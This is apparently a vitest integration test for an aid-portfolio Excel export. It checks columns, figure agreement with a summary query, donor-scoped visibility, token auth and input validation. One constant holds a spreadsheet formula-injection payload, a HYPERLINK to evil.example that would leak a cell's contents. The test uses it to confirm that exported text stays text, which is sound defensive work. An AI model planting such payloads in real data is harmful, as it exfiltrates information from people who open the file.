/**
 * The portfolio workbook: its sheets carry the documented columns, its figures are the ones `portfolioSummary`
 * gives the same caller for the same filter, a donor's copy holds only what it funds, text that a spreadsheet
 * would run as a formula stays text, and bad filters or a missing session are refused with a coded error.
 *
 *   G1 (lead L1; TIP_SOM; NG)                      G2 (lead L2; HIV_PRISONS; KE)
 *     J1 "=HYPERLINK…", NG 100 %, 2024–2025          J3 KE 100 %, 2024–2025, funded by D2 (earmarked)
 *     J2 NG 50 % / GH 50 %, 2024–2025
 *   D1 funds G1's pool. J1 has indicators, one of them sensitive with a small actual.
 */
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { useApi, Role, type Client } from '../support/api.js';
import { addIndicator, addNode, makeOrganisation, makeProgramme, makeProject } from '../support/factories.js';
import { approveReported } from '../support/reporting.js';

const api = useApi();
const org: Record<string, string> = {};
const ids: Record<string, string> = {};
const ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

const FIGURES = 'key label programmes projects budget contributions received spent deliveryRate fundingGap indicators { onTrack atRisk offTrack noData total }';
const BREAKDOWNS = ['byFocusArea', 'byCountry', 'byRegion', 'byLeadAgency', 'byDonor', 'byStatus', 'byYear', 'bySdgTarget', 'byLegalInstrument'];
const SUMMARY = `query($f: PortfolioFilter) { portfolioSummary(filter: $f) { reportingCurrency totals { ${FIGURES} countries partners } ${BREAKDOWNS.map((b) => `${b} { ${FIGURES} }`).join(' ')} } }`;

const HEADERS = {
  Summary: ['Breakdown', 'Key', 'Label', 'Programmes', 'Projects', 'Budget (USD)', 'Contributions (USD)', 'Received (USD)', 'Spent (USD)', 'Delivery rate', 'Funding gap (USD)', 'On track', 'At risk', 'Off track', 'No data', 'Indicators', 'Countries', 'Partners'],
  Projects: ['Project ID', 'IATI identifier', 'Project', 'Programme', 'Lead agency', 'Status', 'Countries', 'Focus areas', 'Planned start', 'Planned end', 'Actual start', 'Actual end', 'Share', 'Budget (USD)', 'Spent (USD)'],
  Results: ['Project ID', 'IATI identifier', 'Project', 'Programme', 'On track', 'At risk', 'Off track', 'No data', 'Indicators'],
};

beforeAll(async () => {
  for (const [key, kind] of [['l1', 'UN_ENTITY'], ['l2', 'UN_ENTITY'], ['d1', 'DONOR'], ['d2', 'DONOR']]) org[key] = (await makeOrganisation(api, { name: `Org ${key}`, kind })).id;
  await api.ok(`mutation($i: ExchangeRateInput!) { setExchangeRate(input: $i) { id } }`, { i: { currency: 'EUR', rateDate: '2024-01-01', rate: '1.10', source: 'test' } });
  ids.g1 = (await makeProgramme(api, { title: 'Trafficking programme', leadAgencyId: org.l1, focusAreas: ['TIP_SOM'], countries: ['NG'], sdgTargets: ['16.2'] })).id;
  ids.g2 = (await makeProgramme(api, { title: 'Prison health programme', leadAgencyId: org.l2, focusAreas: ['HIV_PRISONS'], countries: ['KE'] })).id;
  const dates = { plannedStart: '2024-01-01', plannedEnd: '2025-12-31', status: '2' };
  ids.j1 = (await makeProject(api, ids.g1, { ...dates, title: ATTACK, focusAreas: ['TIP_SOM'], recipientCountries: [{ country: 'NG', percentage: 100 }] })).id;
  ids.j2 = (await makeProject(api, ids.g1, { ...dates, title: 'Border project', focusAreas: ['TIP_SOM', 'CORRUPTION'], recipientCountries: [{ country: 'NG', percentage: 50 }, { country: 'GH', percentage: 50 }] })).id;
  ids.j3 = (await makeProject(api, ids.g2, { ...dates, title: 'Prison clinics', focusAreas: ['HIV_PRISONS'], recipientCountries: [{ country: 'KE', percentage: 100 }] })).id;

  const budget = (projectId: string, year: number, amount: string, currency = 'USD') =>
    api.ok(`mutation($i: BudgetInput!) { createBudget(input: $i) { id } }`, { i: { projectId, periodStart: `${year}-01-01`, periodEnd: `${year}-12-31`, amount, currency, valueDate: `${year}-01-01` } });
  await budget(ids.j1, 2024, '1000.10');
  await budget(ids.j2, 2024, '2000', 'EUR');
  await budget(ids.j2, 2025, '333.33');
  await budget(ids.j3, 2025, '700');
  const contribution = (i: Record<string, unknown>) => api.ok(`mutation($i: ContributionInput!) { createContribution(input: $i) { id } }`, { i });
  await contribution({ donorId: org.d1, programmeId: ids.g1, amount: '3000', currency: 'USD', signedDate: '2024-02-01', periodStart: '2024-01-01', periodEnd: '2025-12-31', earmarking: 'UNEARMARKED', status: 'SIGNED' });
  await contribution({ donorId: org.d2, projectId: ids.j3, amount: '500', currency: 'USD', signedDate: '2025-03-01', periodStart: '2025-01-01', periodEnd: '2025-12-31', earmarking: 'TIGHT', status: 'SIGNED' });
  const tx = (i: Record<string, unknown>) => api.ok(`mutation($i: TransactionInput!) { createTransaction(input: $i) { id } }`, { i });
  await tx({ programmeId: ids.g1, type: '1', transactionDate: '2024-02-10', amount: '2000', currency: 'USD', providerId: org.d1, receiverId: org.l1 });
  await tx({ projectId: ids.j1, type: '4', transactionDate: '2024-06-01', amount: '400.25', currency: 'USD', providerId: org.l1 });
  await tx({ projectId: ids.j3, type: '4', transactionDate: '2025-03-01', amount: '350', currency: 'USD', providerId: org.l2 });

  const periods = (await api.ok(`mutation($p: ID!) { setReportingCalendar(projectId: $p, frequency: QUARTERLY) { id } }`, { p: ids.j1 })).setReportingCalendar as { id: string }[];
  const outcome = await addNode(api, ids.j1, { level: 'OUTCOME', statement: 'Victims are identified and referred' });
  const a = await addIndicator(api, outcome.id, { title: 'Officers trained' });
  const b = await addIndicator(api, outcome.id, { title: 'Cases investigated' });
  const s = await addIndicator(api, outcome.id, { title: 'Victims identified', sensitive: true });
  await addIndicator(api, outcome.id, { title: 'Not reported yet' });
  const values = periods.flatMap((p, i) => [
    { indicatorId: a.id, periodId: p.id, target: 10, actual: 10 },
    { indicatorId: b.id, periodId: p.id, target: 10, actual: 5 },
    { indicatorId: s.id, periodId: p.id, target: 1, actual: i === 0 ? 3 : null },
  ]);
  await api.ok(`mutation($p: ID!, $v: [IndicatorValueInput!]!) { setIndicatorValues(projectId: $p, values: $v) { id } }`, { p: ids.j1, v: values });
  await approveReported(api, ids.j1);
}, 120_000);

const download = (headers: Record<string, string>, query = '') => fetch(`${api.url}/exports/portfolio.xlsx${query}`, { headers });

async function workbookOf(res: Response) {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
  return book;
}

/** A sheet's rows after the header, as objects keyed by the header. */
function rowsOf(book: ExcelJS.Workbook, name: keyof typeof HEADERS) {
  const sheet = book.getWorksheet(name)!;
  const header = (sheet.getRow(1).values as unknown[]).slice(1);
  expect(header).toEqual(HEADERS[name]);
  const rows: Record<string, unknown>[] = [];
  sheet.eachRow((row, n) => {
    if (n > 1) rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1).value ?? null])));
  });
  return rows;
}

/** A money cell as the API writes money: a decimal string to the cent, or null when a rate is missing. */
const asMoney = (v: unknown) => (v === 'rate missing' ? null : typeof v === 'number' ? v.toFixed(2) : v);

/** A Summary row in the shape of the API's `PortfolioFigures`. */
const asFigures = (r: Record<string, unknown>) => ({
  key: r.Key ?? '',
  label: r.Label,
  programmes: r.Programmes,
  projects: r.Projects,
  budget: asMoney(r['Budget (USD)']),
  contributions: asMoney(r['Contributions (USD)']),
  received: asMoney(r['Received (USD)']),
  spent: asMoney(r['Spent (USD)']),
  deliveryRate: r['Delivery rate'],
  fundingGap: asMoney(r['Funding gap (USD)']),
  indicators: { onTrack: r['On track'], atRisk: r['At risk'], offTrack: r['Off track'], noData: r['No data'], total: r.Indicators },
});

/** Checks the workbook against `portfolioSummary` as the same caller sees it for the same filter; returns both. */
async function expectSameAsSummary(client: Client, headers: Record<string, string>, filter: Record<string, unknown> = {}) {
  const query = new URLSearchParams(Object.entries(filter).map(([k, v]) => [k, String(v)])).toString();
  const book = await workbookOf(await download(headers, query ? `?${query}` : ''));
  const { portfolioSummary: s } = await client.ok(SUMMARY, { f: filter });
  const summary = rowsOf(book, 'Summary');
  const { countries, partners, ...totals } = s.totals;
  expect(asFigures(summary[0])).toEqual(totals);
  expect(summary[0]).toMatchObject({ Breakdown: 'totals', Countries: countries, Partners: partners });
  for (const b of BREAKDOWNS) expect(summary.filter((r) => r.Breakdown === b).map(asFigures), b).toEqual(s[b]);
  expect(summary).toHaveLength(1 + BREAKDOWNS.reduce((n, b) => n + s[b].length, 0));

  const projects = rowsOf(book, 'Projects');
  const results = rowsOf(book, 'Results');
  expect(projects).toHaveLength(s.totals.projects);
  expect(results.map((r) => r['Project ID'])).toEqual(projects.map((r) => r['Project ID']));
  // Indicators count by project exactly as the summary counts them, masking included.
  const sum = (key: string) => results.reduce((n, r) => n + (r[key] as number), 0);
  expect({ onTrack: sum('On track'), atRisk: sum('At risk'), offTrack: sum('Off track'), noData: sum('No data'), total: sum('Indicators') }).toEqual(s.totals.indicators);
  // Budgets are the projects' own (a programme fund has none): the projects' shares add up to the total to the cent.
  const budget = projects.reduce((n, r) => n + Math.round(Number(r['Budget (USD)']) * 100), 0);
  expect((budget / 100).toFixed(2)).toBe(s.totals.budget);
  return { book, summary: s, projects, results };
}

describe('portfolio export', () => {
  it('gives the documented sheets and columns, with the figures of portfolioSummary', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const { book, summary, projects } = await expectSameAsSummary(admin, { cookie: admin.cookie });
    expect(book.worksheets.map((w) => w.name)).toEqual(['Summary', 'Projects', 'Results', 'About']);
    expect(summary.totals.budget).toBe('4233.43'); // 1,000.10 + 2,000 EUR × 1.10 + 333.33 + 700
    const j2 = projects.find((r) => r['Project ID'] === ids.j2)!;
    expect(j2).toMatchObject({ Programme: 'Trafficking programme', 'Lead agency': 'Org l1', Countries: 'Ghana 50%; Nigeria 50%', Share: 1, 'Budget (USD)': 2533.33, 'Actual start': null });
    expect(j2['Focus areas']).toMatch(/; /);
    expect(j2['Planned start']).toEqual(new Date('2024-01-01T00:00:00Z'));
    expect(book.getWorksheet('Projects')!.getRow(2).getCell(9).numFmt).toBe('yyyy-mm-dd');
  });

  it('equals portfolioSummary for the same filter: country shares, years, focus area', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const ng = await expectSameAsSummary(admin, { cookie: admin.cookie }, { country: 'NG', yearFrom: 2024, yearTo: 2024 });
    expect(ng.projects.map((r) => r['Project ID']).sort()).toEqual([ids.j1, ids.j2].sort());
    expect(ng.projects.find((r) => r['Project ID'] === ids.j2)).toMatchObject({ Share: 0.5, 'Budget (USD)': 1100 });
    const tip = await expectSameAsSummary(admin, { cookie: admin.cookie }, { focusArea: 'TIP_SOM', leadAgencyId: org.l1, status: '2' });
    expect(tip.projects).toHaveLength(2);
    const none = await expectSameAsSummary(admin, { cookie: admin.cookie }, { region: 'Oceania' });
    expect(none.projects).toEqual([]);
  });

  it("covers for a donor only what it funds, the same as the donor's own summary, with sensitive statuses withheld", async () => {
    const d2 = await api.signedIn([{ role: Role.DONOR, organisationId: org.d2 }]);
    const two = await expectSameAsSummary(d2, { cookie: d2.cookie });
    expect(two.projects.map((r) => r['Project ID'])).toEqual([ids.j3]);
    const d1 = await api.signedIn([{ role: Role.DONOR, organisationId: org.d1 }]);
    const one = await expectSameAsSummary(d1, { cookie: d1.cookie });
    expect(one.projects.map((r) => r['Project ID']).sort()).toEqual([ids.j1, ids.j2].sort());
    // The small sensitive actual leaves its indicator without a status for the donor, unlike for an administrator.
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const all = await expectSameAsSummary(admin, { cookie: admin.cookie });
    const j1 = (r: { results: Record<string, unknown>[] }) => r.results.find((x) => x['Project ID'] === ids.j1)!;
    expect(j1(all)).toMatchObject({ 'On track': 1, 'Off track': 2, 'No data': 1, Indicators: 4 });
    expect(j1(one)).toMatchObject({ 'On track': 1, 'Off track': 1, 'No data': 2, Indicators: 4 });
  });

  it('keeps text that starts like a formula as text, and writes no formula', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const book = await workbookOf(await download({ cookie: admin.cookie }));
    for (const name of ['Projects', 'Results']) {
      const row = rowsOf(book, name as keyof typeof HEADERS).find((r) => r['Project ID'] === ids.j1)!;
      expect(row.Project).toBe(`'${ATTACK}`);
    }
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))));
  });

  it('works with an API token as with a session', async () => {
    const manager = await api.signedIn([{ role: Role.PROGRAMME_MANAGER, programmeId: ids.g2 }]);
    const expiresAt = new Date(Date.now() + 86_400_000).toISOString();
    const { createApiToken } = await manager.ok(`mutation($e: DateTime!) { createApiToken(input: { name: "export", scope: READ, expiresAt: $e }) { secret } }`, { e: expiresAt });
    await expectSameAsSummary(manager, { authorization: `Bearer ${createApiToken.secret}` }, { donorId: org.d2 });
  });

  it('refuses bad filters with BAD_USER_INPUT naming the field, and a caller without a session with 401', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    for (const [query, field] of [
      ['?yearFrom=20x4', 'yearFrom'],
      ['?yearTo=1899', 'yearTo'],
      ['?donorId=nope', 'donorId'],
      [`?focusArea=${'A'.repeat(51)}`, 'focusArea'],
      ['?country=NG%00', 'country'],
      ['?status=2&status=3', 'status'],
      ['?programme=x', 'programme'],
    ]) {
      const res = await download({ cookie: admin.cookie }, query);
      expect(res.status, query).toBe(400);
      const body = await res.json();
      expect(body.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
      expect(body.errors[0].extensions.fields[0].field).toBe(field);
      expect(JSON.stringify(body)).not.toMatch(/at .*\.ts|select /i);
    }
    const anonymous = await download({});
    expect(anonymous.status).toBe(401);
    expect((await anonymous.json()).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    expect((await download({ authorization: 'Bearer not-a-token' })).status).toBe(401);
  });

  it('reads with the same number of statements however many projects it lists', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const statements = async () => {
      await (await download({ cookie: admin.cookie })).arrayBuffer(); // brings the rollups up to date first
      api.sql.reset();
      await workbookOf(await download({ cookie: admin.cookie }));
      return api.sql.count;
    };
    const before = await statements();
    expect(before).toBeGreaterThan(3);
    for (let i = 0; i < 3; i++) await makeProject(api, ids.g2, { focusAreas: ['HIV_PRISONS'], recipientCountries: [{ country: 'KE', percentage: 100 }] });
    expect(await statements()).toBe(before);
  });
});
